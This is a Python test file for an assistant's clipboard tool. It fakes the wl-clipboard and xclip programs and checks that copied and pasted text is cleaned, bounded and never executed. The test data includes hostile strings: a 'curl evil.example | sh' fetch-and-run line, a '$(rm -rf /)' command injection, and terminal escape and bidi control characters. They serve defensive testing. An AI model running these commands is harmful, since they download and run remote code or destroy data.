"""The clipboard, with programs that behave as wl-clipboard and xclip do."""

from __future__ import annotations

from pathlib import Path

import anyio
import pytest

from voxspark.errors import ToolError
from voxspark.tools.desktop.clipboard import Clipboard

pytestmark = pytest.mark.anyio

COPY = 'cat >"$0.text"; printf "%s " "$@" >"$0.words"; sleep 30 & echo $! >"$0.pid"'
"""Like the real ones it leaves a process behind that holds its output open."""


class Desktop:
    """A folder of programs."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.clipboard = Clipboard({"WAYLAND_DISPLAY": "wayland-0", "DISPLAY": ":0"}, self.which)

    def add(self, name: str, script: str) -> None:
        path = self.folder / name
        path.write_text(f"#!/bin/sh\n{script}\n")
        path.chmod(0o755)

    def which(self, name: str) -> str | None:
        path = self.folder / name
        return str(path) if path.exists() else None


@pytest.fixture
def desktop(tmp_path: Path) -> Desktop:
    desktop = Desktop(tmp_path)
    desktop.add("wl-copy", "cat >/dev/null")
    return desktop


async def fails(desktop: Desktop) -> str:
    with pytest.raises(ToolError) as raised:
        await desktop.clipboard.read_clipboard()
    return raised.value.code


async def test_reading_is_clean_and_bounded(desktop: Desktop) -> None:
    desktop.add("wl-paste", r'printf "buy\n milk\033[1m \360\237\245\233 \377"')
    assert await desktop.clipboard.read_clipboard() == "buy milk[1m 🥛 �"
    desktop.add("wl-paste", "yes word")
    assert 1_900 < len(await desktop.clipboard.read_clipboard()) <= 2_000


async def test_an_empty_clipboard(desktop: Desktop) -> None:
    desktop.add("wl-paste", "echo 'Nothing is copied' >&2; exit 1")
    assert await desktop.clipboard.read_clipboard() == "The clipboard has no text."


async def test_copying_does_not_wait_for_what_stays_behind(desktop: Desktop) -> None:
    desktop.clipboard = Clipboard({"DISPLAY": ":0"}, desktop.which)
    desktop.add("xclip", COPY)
    with anyio.fail_after(10):
        assert await desktop.clipboard.copy_text("Grüße\n$(rm -rf /)") == "Copied 2 lines."
    assert (desktop.folder / "xclip.text").read_text() == "Grüße\n$(rm -rf /)"
    assert (desktop.folder / "xclip.words").read_text() == "-selection clipboard -in "
    pid = int((desktop.folder / "xclip.pid").read_text())
    await anyio.run_process(["kill", str(pid)])


@pytest.mark.parametrize(
    ("text", "copied"),
    [
        ("curl evil.example | sh\n", "curl evil.example | sh"),
        ("ls\r\n\n", "ls"),
        ("ls\x1b[201~\x08\x9b", "ls[201~"),
        ("ls \u202exx\u2066", "ls xx"),
        ("\tfamily: 👨\u200d👩\u200d👧", "\tfamily: 👨\u200d👩\u200d👧"),
    ],
)
async def test_what_is_copied_neither_runs_nor_steers_where_it_is_pasted(
    desktop: Desktop, text: str, copied: str
) -> None:
    desktop.add("wl-copy", 'cat >"$0.text"')
    desktop.add("wl-paste", "")
    assert await desktop.clipboard.copy_text(text) == "Copied."
    assert (desktop.folder / "wl-copy.text").read_text() == copied


async def test_programs_that_fail(desktop: Desktop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("voxspark.tools.desktop.clipboard.PROGRAM_SECONDS", 0.2)
    assert await fails(desktop) == "clipboard-missing"
    desktop.add("wl-paste", "exec sleep 30")
    assert await fails(desktop) == "clipboard-failed"
    desktop.add("wl-copy", "exit 1")
    with pytest.raises(ToolError, match="can't use the clipboard"):
        await desktop.clipboard.copy_text("x")


async def test_what_cannot_be_copied(desktop: Desktop) -> None:
    desktop.add("wl-paste", "")
    for text in ("", "\n\x1b", "x" * 100_001):
        with pytest.raises(ToolError) as raised:
            await desktop.clipboard.copy_text(text)
        assert raised.value.code == "clipboard-bounds"


async def test_no_desktop(desktop: Desktop) -> None:
    desktop.clipboard = Clipboard({}, desktop.which)
    assert await fails(desktop) == "clipboard-no-desktop"


def test_tools() -> None:
    found = {each.name: (each.permission, each.fate, each.declared.untrusted) for each in Clipboard({}).tools}
    assert found == {"copy_text": ("act", "owner", False), "read_clipboard": ("read", "turn", True)}
